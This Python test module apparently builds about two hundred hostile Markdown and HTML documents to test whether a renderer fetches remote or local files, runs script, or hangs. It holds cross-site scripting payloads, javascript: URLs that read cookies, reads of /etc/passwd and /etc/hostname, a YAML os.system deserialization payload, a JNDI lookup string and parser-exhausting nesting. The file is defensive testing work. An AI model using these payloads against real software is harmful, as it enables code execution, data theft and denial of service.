"""Two hundred documents that try to make a renderer load, run, hide or hang."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

# A host that must never be asked for; the address is one of those kept free for documentation.
HOST = "192.0.2.1"
_PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()

CONSTRUCTS = (
    "![picture]({})",
    "![]({} 'a title')",
    "[words]({})",
    "[words][ref]\n\n[ref]: {} 'a title'",
    "![words][ref]\n\n[ref]: <{}>",
    "<{}>",
    "{}",
    '<img src="{}" onerror="alert(1)">',
    '<iframe src="{}"></iframe>\n<object data="{}"></object><embed src="{}">',
    '<link rel="stylesheet" href="{}"><script src="{}"></script>',
    '<p style="background: url({})">x</p><style>@import url("{}"); body {{ background: url({}) }}</style>',
    '<meta http-equiv="refresh" content="0; url={}"><base href="{}">',
    '<table background="{}"><tr><td>x</table><video poster="{}"><source srcset="{} 2x"></video>',
)


def addresses(planted: str) -> tuple[str, ...]:
    """Addresses of what lies in the folder `planted`, and of what lies elsewhere."""
    return (
        f"file://{planted}/picture.png",
        f"{planted}/picture.png",
        "planted/picture.png",
        f"http://{HOST}/picture.png",
        f"//{HOST}/picture.png",
        f"\\\\{HOST}\\share\\picture.png",
        f"file://{HOST}/share/picture.png",
        f"data:image/png;base64,{_PIXEL}",
        "data:text/html,<script>alert(1)</script>",
        "javascript:alert(document.cookie)",
        f"qrc:{planted}/picture.png",
        "image://provider/picture",
        "file:///etc/hostname",
    )


def _structures(planted: str) -> Iterator[str]:
    yield from (
        "[" * 10_000,
        "![" * 5_000,
        "[" * 3_000 + "]" * 3_000,
        "[a](" * 3_000,
        "<" * 5_000,
        "(" * 9_000 + ")" * 9_000,
    )
    yield from (">" * 5_000 + " deep", "> " * 5_000 + "deep", "- " * 5_000 + "deep", "1. " * 2_000 + "deep")
    yield from (
        "*" * 20_000,
        "_" * 9_999 + "a",
        "**a " * 4_000,
        "~~" * 5_000,
        "`" * 20_000,
        "``` " + "x" * 9_000,
    )
    yield "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|b" * 2_000 + "|\n"
    yield "|a|b|\n|-|-|\n" + "|c|d|e|\n" * 2_000
    yield "|a|b|\n|-|-|\n" + f"|![x]({planted}/picture.png)|<img src={planted}/picture.png>|\n" * 40
    yield "a" * 200_000
    yield "\u0600" * 20_000 + "\u202e" * 2_000
    yield "x\u0301" * 20_000
    yield from ("<!--", "<!-- a -- b --!> c", "<!-->\n<!--->\nx", "<![CDATA[ x ]]> <?php x ?> <!DOCTYPE x>")
    yield f"<!-- <img src={planted}/picture.png> -->"
    yield from (
        "&#0; &#xD800; &#x110000; &#99999999999; &lt;img src=x&gt;",
        "&NewLine;&Tab;javascript&colon;alert(1)",
    )
    yield f"[x](java&#115;cript:alert(1)) [y](&#x66;ile://{planted}/picture.png)"
    yield f"<a href='file://{planted}/page.html' ping='http://{HOST}'>x</a>"
    yield "\x1b]8;;http://example.org\x07words\x1b]8;;\x07 \x1b[2J\x1b[31mred\x1b]0;title\x07"
    yield "\x00\x01\x02\r\r\n\x0b\x0c\x85\u2028\u2029"
    yield "\ud800".encode("utf-16", "surrogatepass").decode("latin-1") + "\udcff\udc80 bytes"
    yield f"---\npicture: {planted}/picture.png\n!!python/object/apply:os.system ['touch {planted}/ran']\n---\nbody"
    yield "$$\\input{/etc/passwd}$$ \\write18{id} {{ 7*7 }} ${{jndi:ldap://192.0.2.1/x}} #{7*7}"
    yield f'```mermaid\nclick a "file://{planted}/page.html"\n```\n\n```html\n<img src={planted}/picture.png>\n```'
    yield f"@{planted}/page.html\n\n@import {planted}/page.html\n\n!include {planted}/page.html\n\n[[{planted}/page]]"
    yield "# " * 3_000
    yield "\n".join(f"{'#' * (n % 7)} {n}" for n in range(2_000))
    yield "".join(f"{'  ' * (n % 60)}- {n}\n" for n in range(600))
    yield "".join(f"[r{n}]: http://example.org/{n}\n" for n in range(2_000)) + "[r1] [r1999]"


def documents(planted: str) -> tuple[str, ...]:
    """All of them; `planted` is a folder that nobody may look into."""
    linked = [construct.replace("{}", url) for construct, url in product(CONSTRUCTS, addresses(planted))]
    return (*linked, *_structures(planted))
